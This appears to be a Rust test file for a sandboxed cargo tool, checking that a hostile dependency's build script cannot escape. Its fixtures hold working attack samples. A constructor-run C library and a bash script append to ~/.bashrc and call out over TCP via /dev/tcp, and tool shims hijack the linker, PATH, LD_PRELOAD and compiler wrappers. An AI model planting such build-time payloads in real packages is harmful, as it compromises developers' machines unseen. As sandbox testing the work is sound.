//! Programs, libraries and variables that a build script names for the compilation of its crate.

use std::fs;

use super::world::{Cargo, ours, package};
use crate::support::canary::Canary;
use crate::support::project::{Project, write};
use crate::support::unique;

/// Appends to what belongs to others, and calls home: once as a library, once as a program.
const LIBRARY: &str = r#"
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>
static void append(const char *path) {
    int file = open(path, O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (file >= 0 && write(file, "evil", 4)) close(file);
}
__attribute__((constructor)) static void attack(void) {
    append("DECOY");
    append("HOME/.bashrc");
    struct sockaddr_in to = {AF_INET, htons(PORT), {htonl(INADDR_LOOPBACK)}, {0}};
    int wire = socket(AF_INET, SOCK_STREAM, 0);
    if (wire >= 0 && !connect(wire, (void *)&to, sizeof to) && write(wire, "evil", 4)) close(wire);
}
"#;
const PROGRAM: &str = "#!/bin/bash\nfor file in 'DECOY' 'HOME/.bashrc'; do echo evil >> \"$file\"; done\n\
                       echo evil > /dev/tcp/127.0.0.1/PORT\n";

/// The folder `made` in `OUT_DIR` has the library and, under many names, the program.
const SCRIPT: &str = r#"
use std::{fs, os::unix::fs::PermissionsExt, process::Command};
fn main() {
    let made = std::env::var("OUT_DIR").unwrap() + "/made";
    fs::create_dir_all(&made).unwrap();
    let here = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    let built = Command::new("cc")
        .args(["-shared", "-fPIC", "-o", &format!("{made}/libevil.so"), &format!("{here}/evil.c")])
        .status();
    assert!(built.unwrap().success());
    let path = std::env::var("PATH").unwrap();
    for name in ["ld", "ld.bfd", "cc", "rustc", "wrapper"] {
        // It goes on as what it stands for, so that the build notices nothing.
        let real = path.split(':').map(|at| format!("{at}/{name}")).find(|at| fs::metadata(at).is_ok());
        let then = real.map_or("exec \"$@\"".into(), |real| format!("exec {real} \"$@\""));
        let text = fs::read_to_string(format!("{here}/evil.sh")).unwrap() + &then + "\n";
        fs::write(format!("{made}/{name}"), text).unwrap();
        fs::set_permissions(format!("{made}/{name}"), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let deps = made.split("/build/").next().unwrap().to_owned() + "/deps";
    for line in fs::read_to_string(format!("{here}/directives")).unwrap().lines() {
        let line = line.replace("MADE", &made).replace("DEPS", &deps).replace("PATHS", &path);
        println!("cargo:{line}");
    }
}
"#;

struct World {
    project: Project,
    canary: Canary,
}

impl World {
    fn new(directives: &str) -> Self {
        let project = Project::named("host");
        let folder = project.root().join(unique());
        fs::create_dir_all(&folder).unwrap();
        let canary = Canary::start(&folder, &unique(), b"", Vec::new());
        let decoy = project.path("target/debug/deps/decoy");
        write(&decoy, "a decoy");
        project.home_file(".bashrc", "mine\n");
        let fill = |text: &str| {
            text.replace("DECOY", decoy.to_str().unwrap())
                .replace("HOME", project.home("").to_str().unwrap())
                .replace("PORT", &canary.tcp.to_string())
        };
        project
            .file(
                "Cargo.toml",
                package(
                    "app",
                    "[dependencies]\nevil = { path = \"evil\" }\n[workspace]\n",
                ),
            )
            .file(
                "src/lib.rs",
                "/// ```\n/// app::go();\n/// ```\npub use evil::go;\n",
            )
            .file("src/main.rs", "fn main() {\n    app::go();\n}\n")
            .file(
                "evil/Cargo.toml",
                // Of all that a dependency is compiled to, this is linked.
                package("evil", "[lib]\ncrate-type = [\"lib\", \"cdylib\"]\n"),
            )
            .file("evil/src/lib.rs", "pub fn go() {}\n")
            .file("evil/build.rs", SCRIPT)
            .file("evil/evil.c", fill(LIBRARY))
            .file("evil/evil.sh", fill(PROGRAM))
            .file("evil/directives", directives);
        Self { project, canary }
    }

    /// Whether it got at a file of another unit, at the home folder, and at the network.
    fn effects(&mut self) -> [bool; 3] {
        let text = |path| fs::read_to_string(path).unwrap();
        [
            text(self.project.path("target/debug/deps/decoy")) != "a decoy",
            text(self.project.home(".bashrc")) != "mine\n",
            !self.canary.stop().is_empty(),
        ]
    }
}

/// Nothing of it reaches outside, whatever becomes of the build; where plain cargo obeys the
/// directive, everything does.
#[track_caller]
fn check(directives: &str, plain_obeys: bool, builds: bool) {
    for command in ["build", "run", "test"] {
        if plain_obeys && command == "build" {
            let mut world = World::new(directives);
            Cargo::Plain.of(&world.project).arg(command).finish();
            assert_eq!(world.effects(), [true; 3], "no control for {directives}");
        }
        // Where cargo is inside, the matrix shows that both walls are alike.
        for cargo in ours().filter(|cargo| command == "run" || *cargo != Cargo::FirstWall) {
            let mut world = World::new(directives);
            let run = cargo.of(&world.project).arg(command).finish();
            assert_eq!(world.effects(), [false; 3], "{cargo:?}: {directives}{run}");
            assert!(!builds || run.status.success(), "{cargo:?}{run}");
        }
    }
}

#[test]
fn linker() {
    check(
        "rustc-link-arg=-BMADE\nrustc-link-arg=-fuse-ld=bfd\n",
        true,
        true,
    );
}

#[test]
fn compiler_by_path() {
    check("rustc-env=PATH=MADE:PATHS\n", true, true);
}

#[test]
fn preloaded_library() {
    check("rustc-env=LD_PRELOAD=MADE/libevil.so\n", true, true);
}

#[test]
fn library_by_search_path() {
    check(
        "rustc-env=LD_PRELOAD=libevil.so\nrustc-env=LD_LIBRARY_PATH=MADE\nrustc-link-search=native=MADE\n",
        true,
        true,
    );
}

#[test]
fn wrappers() {
    check(
        "rustc-env=RUSTC_WRAPPER=MADE/wrapper\nrustc-env=RUSTC=MADE/rustc\n\
         rustc-env=RUSTC_WORKSPACE_WRAPPER=MADE/wrapper\n",
        false,
        true,
    );
    check(
        "rustc-env=SANDBOXED_CARGO_RUSTC_WRAPPER=MADE/wrapper\n",
        false,
        false,
    );
}

#[test]
fn our_own_variables() {
    check(
        "rustc-env=SANDBOXED_CARGO_UNIT=MADE/wrapper\nrustc-env=SANDBOXED_CARGO_RUSTDOC=MADE/wrapper\n\
         rustc-env=SANDBOXED_CARGO_NAMESPACES=off\nrustc-env=PERRY_SANDBOX_BUILDRS=0\n\
         rustc-env=LD_PRELOAD=MADE/libevil.so\n",
        true,
        true,
    );
    for session in ["0", "3", "200", "-1", "evil", "MADE/wrapper"] {
        // Not a control: nothing is attacked but by what should refuse to start.
        let directives = format!(
            "rustc-env=SANDBOXED_CARGO_SESSION={session}\nrustc-env=LD_PRELOAD=MADE/libevil.so\n"
        );
        check_run(&directives);
    }
}

/// The same for `cargo run` alone.
#[track_caller]
fn check_run(directives: &str) {
    for cargo in ours() {
        let mut world = World::new(directives);
        let run = cargo.of(&world.project).arg("run").finish();
        assert_eq!(world.effects(), [false; 3], "{cargo:?}: {directives}{run}");
    }
}

#[test]
fn temporary_folder() {
    check(
        "rustc-env=TMPDIR=DEPS\nrustc-env=LD_PRELOAD=MADE/libevil.so\n",
        true,
        true,
    );
}

/// rustc takes the value of any option that begins so for a file of arguments.
#[test]
fn file_of_arguments() {
    for command in ["build", "run"] {
        for cargo in ours() {
            let world = World::new("rustc-cfg=@ARGUMENTS\n");
            let (project, decoy) = (&world.project, world.project.path("target/debug/decoy.rs"));
            write(&decoy, "a decoy");
            let arguments = project.path("evil/arguments");
            write(&arguments, format!("a\n-o\n{}\n", decoy.display()));
            project.file(
                "evil/directives",
                format!("rustc-cfg=@{}\n", arguments.display()),
            );
            cargo.of(project).arg(command).finish();
            assert_eq!(fs::read_to_string(&decoy).unwrap(), "a decoy");
            let beside = fs::read_dir(decoy.parent().unwrap()).unwrap();
            let names: Vec<_> = beside.map(|entry| entry.unwrap().file_name()).collect();
            let ours = |name: &&std::ffi::OsString| {
                let name = name.to_string_lossy();
                name.starts_with("decoy") || name.starts_with(".sandboxed-cargo")
            };
            assert_eq!(names.iter().filter(ours).count(), 1, "{names:?}");
        }
    }
}
